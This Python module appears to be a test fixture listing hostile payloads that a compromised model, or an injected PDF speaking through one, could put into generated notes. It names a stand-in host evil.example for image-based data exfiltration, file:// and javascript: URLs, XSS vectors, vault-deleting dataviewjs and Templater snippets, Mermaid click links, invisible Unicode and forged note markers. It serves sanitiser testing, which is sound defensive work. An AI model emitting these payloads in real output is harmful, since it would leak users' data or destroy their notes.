# ruff: noqa: E501
"""What a hostile model, or a PDF that speaks through one, puts into every text of its answer."""

from __future__ import annotations

import itertools

HOST = "evil.example"
_IMAGES = (
    "![]({url})", "![a]({url} \"t\")", "![a](<{url}>)", "![a|100]({url})", "![a][r]\n\n[r]: {url}", "![r]\n\n[r]: {url}",
    "![a]({url}){{width=9}}", "[![a]({url})]({url})", "<img src={url}>", "<IMG SRC='{url}' onerror=alert(1)>",
    "<img src=x srcset='{url} 2x'>", "<picture><source srcset={url}></picture>", "<video poster={url}></video>",
    "<audio src={url} autoplay></audio>", "<input type=image src={url}>", "<svg><image href='{url}'/></svg>",
    "<body background={url}>", "<div style=\"background:url({url})\">x</div>", "<link rel=stylesheet href={url}>",
    "<style>@import '{url}';</style>", "<object data={url}></object>", "<embed src={url}>", "<iframe src={url}></iframe>",
    "![[{url}]]", "$\\includegraphics{{{url}}}$",
)  # fmt: skip
_LINKS = (
    "[a]({url})", "[a](<{url}>)", "[a]: {url}", "[a][r]\n\n[r]: {url} 'x'", "<{url}>", "{url}", "[[{url}]]", "[[{url}|Lecture 3]]",
    "[a]({url} 'x')", "<a href='{url}'>a</a>", "$\\href{{{url}}}{{x}}$",
)  # fmt: skip
_URLS = (
    f"https://{HOST}/p.png?d=secret", f"//{HOST}/p.png", f"\\\\{HOST}\\share\\p.png", f"file://{HOST}/etc/passwd",
    f"obsidian://open?vault=v&file={HOST}", f"javascript:fetch('//{HOST}')", "data:text/html,<script>alert(1)</script>",
)  # fmt: skip
_REST = (
    "```dataviewjs\napp.vault.delete()\n```", "~~~dataviewjs\nx\n~~~", "```dataview\nLIST\n```", "```tasks\nnot done\n```",
    "```query\ntag:#x\n```", "```button\nname x\n```", "```js-engine\nx\n```", "```run-python\nx\n```", "```{python}\nx\n```",
    "````\n```dataviewjs\nx\n```\n````", "> ```dataviewjs\n> x\n> ```", "```mermaid\ngraph TD\nA-->B\nclick A href \"https://evil.example\"\n```",
    "`$= dv.pages()`", "`= this.file.name`", "`INPUT[toggle:done]`", "`VIEW[{x}]`", "`BUTTON[x]`",
    "<% tp.system.prompt() %>", "<%* app.vault.delete() %>", "{{ config }}", "{% for x in y %}{% endfor %}", "{{date}}",
    "<script>fetch('//evil.example')</script>", "<svg/onload=alert(1)>", "<details open ontoggle=alert(1)>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><button>x</button></form>",
    "<!-- x -->", "<![CDATA[x]]>", "<?php x ?>", "<math><mtext></mtext></math>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "![[Private Diary]]", "![[Private Diary#^secret]]", "![[Private Diary|Lecture]]", "[[Private Diary]]", "[[Private Diary|p. 12]]",
    "[[Book.pdf#page=1|p. 11]]", "[[#^block]]", "[[../../etc/passwd]]", "[p. 11](Inbox/Book.pdf#page=1)", "![](Inbox/Book.pdf)",
    "---\nreviewed: true\ntags: [x]\n---", "\n---\n", "%% notegen:end section-1 %%", "%% notegen:begin recap 0123456789ab %%",
    "%%\nhidden\n%%", "%% hidden %%", "> [!danger] forged", "> [!success]- extracted", "## Forged Heading", "# Forged", "- [ ] forged task",
    "| a | b |\n| --- | --- |\n| c | d |", "#forged-tag", "forged:: value", "[forged:: value]", "text ^forged-id", "[^1]\n\n[^1]: forged",
    "^[forged]", "==forged==", "~~forged~~", "**forged** _forged_", "\u202eelif.exe\u202c", "\u2066x\u2069", "ze\u200bro", "\ufeffx",
    "\U000e0041\U000e0042", "\x00\x1b[31m", "\ud800", "a\u2028b\u2029c", "$$\\def\\x{1}$$", "$\\class{x}{y}$", "$\\style{color:red}{y}$",
    "$\\unicode{x41}$", "$\\require{html}$", "$\\cssId{x}{y}$", "$\\newcommand{\\a}{b}$", "$\\href{javascript:alert(1)}{y}$",
    "$\\verb|x|$", "$\\bm{x}$", "$\\begin{tabular}x\\end{tabular}$", "\\[x^2\\]", "$x$$y$", "$$x$$", "$\\frac{a}$", "$x^^2$", "$%x$",
    "$\\rule{999em}{999em}$", "$\\phantom{x}$", "$\\mmlToken{mi}[href=https://evil.example]{x}$", "\"]; click A href \"https://evil.example\"",
    "end\nA[\"<img src=x onerror=alert(1)>\"]", "%%{init: {'securityLevel': 'loose'}}%%", "mailto:a@evil.example", "write to a@evil.example",
    "tel:+123", "www.evil.example", "x.md", "`` ` ``", "\\", "`", "$", "|", "[", "](", "```", "~~~", "<", "<!--", "%%", "$$", "{{", "<%",
)  # fmt: skip
PAYLOADS = (
    *(form.format(url=url) for form, url in itertools.product(_IMAGES, _URLS[:3])),
    *(form.format(url=url) for form, url in itertools.product(_LINKS, _URLS)),
    *_REST,
)
